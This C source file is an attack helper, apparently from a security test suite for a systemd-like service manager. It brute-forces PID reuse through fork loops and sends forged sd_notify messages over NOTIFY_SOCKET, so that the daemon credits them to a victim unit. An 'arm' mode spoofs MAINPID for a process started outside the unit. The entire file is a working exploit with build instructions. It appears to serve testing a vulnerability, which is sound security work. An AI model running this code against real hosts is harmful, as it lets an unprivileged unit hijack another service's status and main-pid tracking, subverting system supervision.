/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * Attack helper (attack-holder.py, notify_pid_reuse): runs as the main process of an attacker
 * unit whose own NOTIFY_SOCKET it uses. It waits for a pid in the file argv[1], then forks
 * until a child gets exactly that pid (the kernel hands pids out in order, pid_max is
 * small), and that child sends argv[2] ("|" for newlines, "@SELF@" for its own pid) to
 * $NOTIFY_SOCKET and sleeps. The daemon attributes a notification to the first unit that
 * knows the sender's pid, among them pids of processes that already exited (recent_pids,
 * main_pid), before it looks at the sender's cgroup: so the message counts as the victim's.
 *
 * With a third argument "arm" it works the other way round: it forks until the next pid
 * the kernel will hand out is the one in argv[1], creates argv[1].armed, waits for
 * argv[1].go, and then sends argv[2] from the main process itself (its own unit's), e.g.
 * "MAINPID=@TARGET@" (@TARGET@: that pid) of a process that was started meanwhile outside the unit and got that
 * pid: the pid is one of the unit's remembered exited pids (its ExecStartPre=), which
 * unit_owns_pid() accepts.
 *
 * Built by hand: cc -O2 -o notify-pid-reuse notify-pid-reuse.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int send_notify(const char *text) {
        const char *path = getenv("NOTIFY_SOCKET");
        struct sockaddr_un sa = { .sun_family = AF_UNIX };
        int fd;

        if (!path || strlen(path) >= sizeof sa.sun_path)
                return -1;
        strcpy(sa.sun_path, path);
        fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (fd < 0)
                return -1;
        if (sendto(fd, text, strlen(text), 0, (struct sockaddr *) &sa, sizeof sa) < 0)
                return -1;
        close(fd);
        return 0;
}

int main(int argc, char **argv) {
        pid_t target = 0;
        unsigned long tries = 0;
        char msg[1024], self[32];

        if (argc != 3 && !(argc == 4 && strcmp(argv[3], "arm") == 0))
                return 2;
        setvbuf(stdout, NULL, _IONBF, 0);
        while (target <= 0) {
                FILE *f = fopen(argv[1], "re");
                if (f) {
                        if (fscanf(f, "%d", &target) != 1)
                                target = 0;
                        fclose(f);
                }
                if (target <= 0)
                        usleep(20000);
        }
        printf("target pid %d, NOTIFY_SOCKET %s\n", (int) target, getenv("NOTIFY_SOCKET") ?: "(none)");
        if (argc == 4) {
                char path[4096];
                for (;;) {
                        pid_t pid = vfork(); /* faster than fork: nothing to copy */
                        if (pid == 0)
                                _exit(0);
                        if (pid < 0)
                                continue;
                        (void) waitpid(pid, NULL, 0);
                        tries++;
                        if (pid == target - 1)
                                break;
                }
                snprintf(path, sizeof path, "%s.armed", argv[1]);
                fclose(fopen(path, "we"));
                printf("armed after %lu forks: the next pid is %d\n", tries, (int) target);
                snprintf(path, sizeof path, "%s.go", argv[1]);
                while (access(path, F_OK) < 0)
                        usleep(20000);
                const char *at = strstr(argv[2], "@TARGET@");
                if (at)
                        snprintf(msg, sizeof msg, "%.*s%d%s", (int) (at - argv[2]), argv[2], (int) target, at + 8);
                else
                        snprintf(msg, sizeof msg, "%s", argv[2]);
                for (char *p = msg; (p = strchr(p, '|')); )
                        *p = '\n';
                printf("sending \"%s\": %s\n", msg, send_notify(msg) == 0 ? "sent" : strerror(errno));
                pause();
                return 0;
        }
        for (;;) {
                pid_t pid = fork();
                if (pid < 0) {
                        if (errno == EAGAIN)
                                continue;
                        perror("fork");
                        return 1;
                }
                if (pid == 0) {
                        if (getpid() != target)
                                _exit(0);
                        /* "@SELF@" -> our pid. */
                        const char *at = strstr(argv[2], "@SELF@");
                        snprintf(self, sizeof self, "%d", (int) getpid());
                        if (at)
                                snprintf(msg, sizeof msg, "%.*s%s%s", (int) (at - argv[2]), argv[2], self, at + 6);
                        else
                                snprintf(msg, sizeof msg, "%s", argv[2]);
                        for (char *p = msg; (p = strchr(p, '|')); )
                                *p = '\n';
                        printf("child has pid %d after %lu forks; sending \"%s\": %s\n", (int) getpid(), tries,
                               msg, send_notify(msg) == 0 ? "sent" : strerror(errno));
                        pause();
                        _exit(0);
                }
                tries++;
                if (pid == target) {
                        printf("got the target pid\n");
                        pause();
                }
                (void) waitpid(pid, NULL, 0);
        }
}
